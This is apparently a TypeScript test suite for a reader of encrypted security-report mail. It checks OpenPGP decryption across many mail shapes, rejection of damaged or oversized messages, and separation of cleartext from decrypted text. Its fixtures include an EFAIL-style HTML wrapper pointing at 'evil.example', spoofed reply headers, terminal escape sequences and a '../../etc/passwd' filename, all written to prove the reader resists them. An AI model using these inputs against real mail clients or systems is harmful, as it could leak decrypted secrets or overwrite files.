/** What encrypted and clear mail says, in the shapes that clients and gateways give it. */
import { createMessage, encrypt, type PrivateKey, sign } from 'openpgp';
import { beforeAll, describe, expect, it } from 'vitest';
import { applyOpenPgpSettings } from '../../src/message/openpgp-settings.js';
import { type ReadMessage, readMessage } from '../../src/message/read.js';
import {
  asHtml,
  bomb,
  entity,
  filePart,
  mixedMail,
  newKey,
  personMail,
  pgpMime,
  pgpMimeMail,
  quoted,
  sealed,
  sealedBinary,
  tampered,
  textPart,
  textsOf,
  unprotected,
} from './mails.js';

const SECRET = 'The login leaks passwords.';
const HIDDEN = ['Subject: ...'];
const OWN = { addresses: ['security@acme.example'], loop: 'security@acme.example' };

let ours: PrivateKey;
let earlier: PrivateKey;
let theirs: PrivateKey;

beforeAll(async () => {
  applyOpenPgpSettings();
  [ours, earlier, theirs] = await Promise.all([newKey('ours'), newKey('earlier'), newKey('theirs')]);
});

function read(mail: Buffer): Promise<ReadMessage> {
  return readMessage(mail, [ours, earlier], OWN);
}

/** Every shape that holds one message for us and nothing else. */
const SHAPES: readonly (readonly [string, string, () => Promise<Buffer>])[] = [
  ['PGP/MIME', 'pgp-mime', async () => pgpMimeMail(HIDDEN, await sealed(entity(SECRET), ours))],
  [
    'PGP/MIME for an earlier key',
    'pgp-mime',
    async () => pgpMimeMail(HIDDEN, await sealed(entity(SECRET), earlier)),
  ],
  [
    'PGP/MIME to a hidden recipient',
    'pgp-mime',
    async () => pgpMimeMail(HIDDEN, await sealed(entity(SECRET), ours, { wildcard: true })),
  ],
  [
    'PGP/MIME to us among others',
    'pgp-mime',
    async () => pgpMimeMail(HIDDEN, await sealed(entity(SECRET), [theirs, ours])),
  ],
  [
    'PGP/MIME to us among hidden others',
    'pgp-mime',
    async () => pgpMimeMail(HIDDEN, await sealed(entity(SECRET), [theirs, ours], { wildcard: true })),
  ],
  [
    'PGP/MIME to 32 recipients',
    'pgp-mime',
    async () => pgpMimeMail(HIDDEN, await sealed(entity(SECRET), Array<PrivateKey>(32).fill(ours))),
  ],
  [
    'PGP/MIME renamed to multipart/mixed by Exchange',
    'pgp-mime',
    async () => {
      const { content, body } = pgpMime(await sealed(entity(SECRET), ours), 'mixed');
      return personMail(
        [...HIDDEN, ...content],
        body.replace('--pp\n', '--pp\nContent-Type: text/plain\n\n\n--pp\n'),
      );
    },
  ],
  [
    'PGP/MIME twice over',
    'pgp-mime',
    async () => {
      const { content, body } = pgpMime(await sealed(entity(SECRET), ours));
      return pgpMimeMail(HIDDEN, await sealed(`${content.join('\r\n')}\r\n\r\n${body}`, ours));
    },
  ],
  ['inline armor', 'inline', async () => personMail(HIDDEN, await sealed(SECRET, ours))],
  ['inline armor, quoted', 'inline', async () => personMail(HIDDEN, quoted(await sealed(SECRET, ours)))],
  [
    'inline armor with a non-breaking space for its blank line',
    'inline',
    async () =>
      personMail(
        [...HIDDEN, 'Content-Type: text/plain; charset=utf-8'],
        (await sealed(SECRET, ours)).replace(/\r?\n\r?\n/, '\n\u00a0\n'),
      ),
  ],
  [
    'inline armor, quoted-printable',
    'inline',
    async () =>
      personMail(
        [...HIDDEN, 'Content-Transfer-Encoding: quoted-printable'],
        (await sealed(SECRET, ours)).replaceAll('=', '=3D'),
      ),
  ],
  [
    'inline armor in base64',
    'inline',
    async () =>
      personMail(
        [...HIDDEN, 'Content-Transfer-Encoding: base64'],
        Buffer.from(await sealed(SECRET, ours))
          .toString('base64')
          .replace(/(.{76})/g, '$1\n'),
      ),
  ],
  [
    'inline armor in HTML alone',
    'inline',
    async () =>
      personMail([...HIDDEN, 'Content-Type: text/html; charset=utf-8'], asHtml(await sealed(SECRET, ours))),
  ],
  [
    'inline armor in HTML alone, with non-breaking spaces',
    'inline',
    async () =>
      personMail(
        [...HIDDEN, 'Content-Type: text/html; charset=utf-8'],
        asHtml((await sealed(SECRET, ours)).replace(/\r?\n\r?\n/, '\n&nbsp;\n')),
      ),
  ],
  [
    'inline armor as text and once more as HTML',
    'inline',
    async () => {
      const armored = await sealed(SECRET, ours);
      return personMail(
        [...HIDDEN, 'MIME-Version: 1.0', 'Content-Type: multipart/alternative; boundary=aa'],
        `--aa\n${textPart(armored)}\n--aa\n${textPart(asHtml(armored), 'text/html')}\n--aa--\n`,
      );
    },
  ],
];

describe('the words are read, once and as decrypted, from', () => {
  it.each(SHAPES)('%s', async (_name, form, mail) => {
    const { message, recipients } = await read(await mail());
    expect(message.encryption).toMatchObject({ state: 'decrypted', form });
    expect(textsOf(message)).toEqual([`decrypted plain: ${SECRET}`]);
    expect(message.attachments).toEqual([]);
    expect(recipients).toBe('ours');
  });
});

describe('what was decrypted', () => {
  it('names the key that opened it', async () => {
    const { message } = await read(pgpMimeMail(HIDDEN, await sealed(entity(SECRET), earlier)));
    expect(message.encryption).toMatchObject({ keyFingerprint: earlier.getFingerprint().toUpperCase() });
  });

  it('has its protected subject beside the outer one', async () => {
    const armored = await sealed(entity(SECRET, '=?utf-8?q?Security_Alert=3A_=C3=BC?='), ours);
    const { message } = await read(pgpMimeMail(HIDDEN, armored));
    expect([message.envelope.subject, message.protectedHeader?.subject]).toEqual([
      '...',
      'Security Alert: ü',
    ]);
  });

  it('has the protected subject of the innermost encryption', async () => {
    const { content, body } = pgpMime(await sealed(entity(SECRET, 'inner'), ours));
    const middle = `Subject: middle\r\n${content.join('\r\n')}\r\n\r\n${body}`;
    const { message } = await read(pgpMimeMail(HIDDEN, await sealed(middle, ours)));
    expect(message.protectedHeader?.subject).toBe('inner');
  });

  it('has no protected subject where it holds none', async () => {
    const { message } = await read(pgpMimeMail(['Subject: outer'], await sealed(entity(SECRET), ours)));
    expect(message.protectedHeader).toBeNull();
  });

  it('never changes who is answered, whatever its own header says', async () => {
    const inner = `From: evil@elsewhere.example\r\nReply-To: evil@elsewhere.example\r\nAuto-Submitted: auto-replied\r\nMessage-ID: <inner@x.example>\r\n${entity(SECRET)}`;
    const { message } = await read(pgpMimeMail(HIDDEN, await sealed(inner, ours)));
    expect(message.answerability).toMatchObject({ answer: true, address: 'ada@quill.example' });
    expect(message.envelope).toMatchObject({ messageId: null, replyTo: [], references: [] });
  });

  it('keeps its files apart as decrypted', async () => {
    const inner = `Content-Type: multipart/mixed; boundary=ii\r\n\r\n--ii\r\n\r\n${SECRET}\r\n--ii\r\nContent-Type: image/png; name="a.png"\r\nContent-Disposition: attachment; filename="a.png"\r\n\r\npng\r\n--ii--\r\n`;
    const { message } = await read(pgpMimeMail(HIDDEN, await sealed(inner, ours)));
    expect(message.attachments).toMatchObject([
      { origin: 'decrypted', filename: 'a.png', contentType: 'image/png' },
    ]);
  });

  it('is read where it is signed too', async () => {
    const armored = await encrypt({
      message: await createMessage({ text: entity(SECRET) }),
      encryptionKeys: ours.toPublic(),
      signingKeys: theirs,
    });
    expect(textsOf((await read(pgpMimeMail(HIDDEN, armored))).message)).toEqual([
      `decrypted plain: ${SECRET}`,
    ]);
  });

  it('is kept as a file where it is beyond the limits of the parsers', async () => {
    const parts = '--ii\r\n\r\nx\r\n'.repeat(1100);
    const inner = `Content-Type: multipart/mixed; boundary=ii\r\n\r\n${parts}--ii--\r\n`;
    const { message, recipients } = await read(pgpMimeMail(HIDDEN, await sealed(inner, ours)));
    expect([message.encryption.state, recipients]).toEqual(['decrypted', 'ours']);
    expect(message.attachments.map(({ origin, content }) => [origin, content.byteLength])).toEqual([
      ['decrypted', inner.length],
    ]);
  });

  it('is text though it holds no valid UTF-8', async () => {
    const armored = await sealed(Buffer.from('Stra\u00dfe', 'latin1'), ours);
    expect(textsOf((await read(personMail(HIDDEN, armored))).message)).toEqual(['decrypted plain: Straße']);
  });

  it('loses its control characters', async () => {
    const armored = await sealed('a\u001b]0;title\u0007b\u0000\u009b31mc', ours);
    const { message } = await read(personMail(HIDDEN, armored));
    expect(message.bodies.map(({ text }) => text).join()).not.toMatch(
      /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/,
    );
  });
});

describe('text from outside an encryption is never joined with text from inside', () => {
  it('around an inline message', async () => {
    const mail = personMail(HIDDEN, `before\n${(await sealed(SECRET, ours)).trim()}\nafter\n`);
    expect(textsOf((await read(mail)).message)).toEqual([
      `decrypted plain: ${SECRET}`,
      'cleartext plain: before\nafter',
    ]);
  });

  it('around a multipart/encrypted, in the footer of a mailing list', async () => {
    const { content, body } = pgpMime(await sealed(entity(SECRET), ours));
    const mail = mixedMail(HIDDEN, [`${content[1]}\n\n${body}`, textPart('You are on the list.')]);
    const { message } = await read(mail);
    expect(message.encryption).toMatchObject({ state: 'decrypted', form: 'pgp-mime' });
    expect(textsOf(message)[0]).toBe(`decrypted plain: ${SECRET}`);
    expect(textsOf(message).slice(1).join()).toContain('cleartext plain: You are on the list.');
    expect(textsOf(message).slice(1).join()).not.toContain(SECRET);
  });

  it('around an encrypted part wrapped in HTML, as EFAIL does', async () => {
    const { content, body } = pgpMime(await sealed(entity(SECRET), ours));
    const mail = mixedMail(HIDDEN, [
      textPart('<img src="https://evil.example/', 'text/html'),
      `${content[1]}\n\n${body}`,
      textPart('">', 'text/html'),
    ]);
    const { message } = await read(mail);
    for (const { origin, text } of message.bodies) {
      if (origin === 'cleartext') expect(text).not.toContain(SECRET);
      else expect(text).not.toContain('evil');
    }
  });

  it('beside an encrypted file', async () => {
    const mail = mixedMail(HIDDEN, [
      textPart('See the file.'),
      filePart('report.txt.pgp', await sealedBinary(SECRET, ours)),
    ]);
    expect(textsOf((await read(mail)).message)).toEqual([
      `decrypted plain: ${SECRET}`,
      'cleartext plain: See the file.',
    ]);
  });
});

describe('an encrypted file is opened', () => {
  it.each([
    ['binary', 'report.txt.pgp', async () => sealedBinary(SECRET, ours)],
    ['binary .gpg', 'report.txt.gpg', async () => sealedBinary(SECRET, ours)],
    ['armored', 'report.txt.asc', async () => Buffer.from(await sealed(SECRET, ours))],
  ])('%s, and takes the place of the encrypted one', async (_name, name, file) => {
    const { message } = await read(
      mixedMail(HIDDEN, [textPart('See the file.'), filePart(name, await file())]),
    );
    expect(message.encryption).toMatchObject({ state: 'decrypted', form: 'attachment' });
    expect(message.attachments).toMatchObject([{ origin: 'decrypted', filename: 'report.txt' }]);
  });

  it('under a name and a type that do not say so', async () => {
    const file = filePart('report.txt', Buffer.from(await sealed(SECRET, ours)), 'text/plain');
    const { message } = await read(mixedMail(HIDDEN, [textPart('See the file.'), file]));
    expect(textsOf(message)).toContain(`decrypted plain: ${SECRET}`);
  });

  it('each by itself where there are two', async () => {
    const files = [
      await sealedBinary('one', ours),
      await sealedBinary('two', theirs),
      await sealedBinary('three', ours),
    ];
    const mail = mixedMail(
      HIDDEN,
      files.map((file, i) => filePart(`${i}.txt.pgp`, file)),
    );
    const { message } = await read(mail);
    expect(message.encryption.state).toBe('decrypted');
    expect(message.attachments.map(({ origin, filename }) => `${origin} ${filename}`)).toEqual([
      'decrypted 0.txt',
      'decrypted 2.txt',
      'cleartext 1.txt.pgp',
    ]);
  });

  it('but neither a key nor a signature is taken for one', async () => {
    const mail = mixedMail(HIDDEN, [
      textPart('My key.'),
      filePart('key.asc', Buffer.from(theirs.toPublic().armor()), 'application/pgp-keys'),
      filePart('key2.asc', Buffer.from(theirs.toPublic().armor())),
    ]);
    const { message, recipients } = await read(mail);
    expect([message.encryption.state, recipients]).toEqual(['cleartext', null]);
    expect(message.attachments).toHaveLength(2);
  });
});

const CLOSED: readonly (readonly [string, string, string | null, () => Promise<string>])[] = [
  ['for another key', 'no-matching-key', 'others', async () => sealed(entity(SECRET), theirs)],
  [
    'for a hidden other key',
    'no-matching-key',
    'hidden',
    async () => sealed(entity(SECRET), theirs, { wildcard: true }),
  ],
  [
    'for a password',
    'password-only',
    'others',
    async () => encrypt({ message: await createMessage({ text: SECRET }), passwords: 'hunter2' }),
  ],
  ['tampered with', 'damaged', 'ours', async () => tampered(await sealed(entity(SECRET), ours))],
  [
    'without integrity protection',
    'not-integrity-protected',
    'ours',
    async () => unprotected(entity(SECRET), ours),
  ],
  [
    'for 40 recipients',
    'too-many-recipients',
    'ours',
    async () => sealed(entity(SECRET), Array<PrivateKey>(40).fill(ours)),
  ],
  [
    'for 40 hidden recipients',
    'too-many-recipients',
    'hidden',
    async () => sealed(entity(SECRET), Array<PrivateKey>(40).fill(theirs), { wildcard: true }),
  ],
  ['cut off', 'damaged', null, async () => (await sealed(entity(SECRET.repeat(50)), ours)).slice(0, 900)],
  [
    'with garbage for its armor',
    'damaged',
    'unknown',
    async () => '-----BEGIN PGP MESSAGE-----\n\n%%%\n-----END PGP MESSAGE-----',
  ],
  ['with nothing in it', 'damaged', 'unknown', async () => ''],
];

describe('a message stays closed, and says why, that is', () => {
  it.each(CLOSED)('%s', async (_name, reason, recipients, armored) => {
    const result = await read(pgpMimeMail(HIDDEN, await armored()));
    expect(result.message.encryption).toEqual({ state: 'undecryptable', form: 'pgp-mime', reason });
    expect(result.message.bodies).toEqual([]);
    expect(result.message.protectedHeader).toBeNull();
    if (recipients !== null) expect(result.recipients).toBe(recipients);
  });

  it('a multipart/encrypted that breaks off behind its control part', async () => {
    const { content, body } = pgpMime('');
    const mail = personMail([...HIDDEN, ...content], body.slice(0, body.indexOf('--pp', 4)));
    expect((await read(mail)).message.encryption).toMatchObject({
      state: 'undecryptable',
      reason: 'damaged',
    });
  });

  it('a decompression bomb', async () => {
    const { message } = await read(pgpMimeMail(HIDDEN, await bomb(140_000_000, ours)));
    expect(message.encryption).toMatchObject({ state: 'undecryptable', reason: 'too-large' });
  });

  it('the second of two bombs that are each within the limit', async () => {
    const file = Buffer.from(await bomb(70_000_000, ours));
    const mail = mixedMail(HIDDEN, [filePart('a.bin.asc', file), filePart('b.bin.asc', file)]);
    const { message } = await read(mail);
    expect(message.attachments.filter(({ origin }) => origin === 'decrypted')).toHaveLength(1);
  });

  it('encrypted deeper than is opened', async () => {
    let inner = entity(SECRET);
    for (let depth = 0; depth < 4; depth += 1) {
      const { content, body } = pgpMime(await sealed(inner, ours));
      inner = `${content.join('\r\n')}\r\n\r\n${body}`;
    }
    const { message } = await read(
      personMail(
        [...HIDDEN, ...inner.slice(0, inner.indexOf('\r\n\r\n')).split('\r\n')],
        inner.slice(inner.indexOf('\r\n\r\n') + 4),
      ),
    );
    expect(textsOf(message).join()).not.toContain(SECRET);
  });
});

describe('a clear mail', () => {
  it('is its words', async () => {
    const { message, recipients } = await read(
      personMail(['Subject: Security Alert'], 'Hello,\n\nit leaks.\n'),
    );
    expect(message.encryption).toEqual({ state: 'cleartext' });
    expect([textsOf(message), recipients]).toEqual([['cleartext plain: Hello,\n\nit leaks.'], null]);
  });

  it('keeps every line of a report that quotes the BEGIN line of an armor', async () => {
    const text = 'The parser hangs on\n-----BEGIN PGP MESSAGE-----\nand nothing else.\n\nSteps:\n1. Send it.';
    const { message } = await read(personMail(['Subject: Security Alert'], text));
    expect([textsOf(message), message.encryption.state]).toEqual([[`cleartext plain: ${text}`], 'cleartext']);
  });

  it('that is signed is read, and its signature is no file of the reporter', async () => {
    const signature = await sign({
      message: await createMessage({ text: 'it leaks' }),
      signingKeys: theirs,
      detached: true,
    });
    const mail = personMail(
      [
        'MIME-Version: 1.0',
        'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=ss',
      ],
      `--ss\n${textPart('it leaks')}\n--ss\nContent-Type: application/pgp-signature; name="signature.asc"\n\n${signature}\n--ss--\n`,
    );
    const { message, recipients } = await read(mail);
    expect([textsOf(message), message.attachments, recipients]).toEqual([
      ['cleartext plain: it leaks'],
      [],
      null,
    ]);
  });

  it.each([
    ['alone', ['Content-Type: text/html; charset=utf-8'], '<p>it <b>leaks</b></p>'],
    [
      'beside a file',
      ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=mm'],
      `--mm\n${textPart('<p>it <b>leaks</b></p>', 'text/html')}\n--mm\nContent-Type: image/png\n\nx\n--mm--\n`,
    ],
  ])('in HTML %s is text made from HTML', async (_name, header, body) => {
    expect(textsOf((await read(personMail(header, body))).message)).toEqual(['cleartext html: it leaks']);
  });

  it('has the words of its attached text files', async () => {
    const mail = mixedMail(
      [],
      [textPart('See the file.'), filePart('steps.md', Buffer.from('# Steps'), 'text/markdown')],
    );
    expect(textsOf((await read(mail)).message)).toEqual([
      'cleartext plain: See the file.',
      'cleartext attachment: # Steps',
    ]);
  });

  it('keeps a file name as data, without control characters', async () => {
    const mail = mixedMail([], [filePart('../../etc/passwd', Buffer.from('x'))]);
    expect((await read(mail)).message.attachments[0]?.filename).toBe('../../etc/passwd');
  });
});
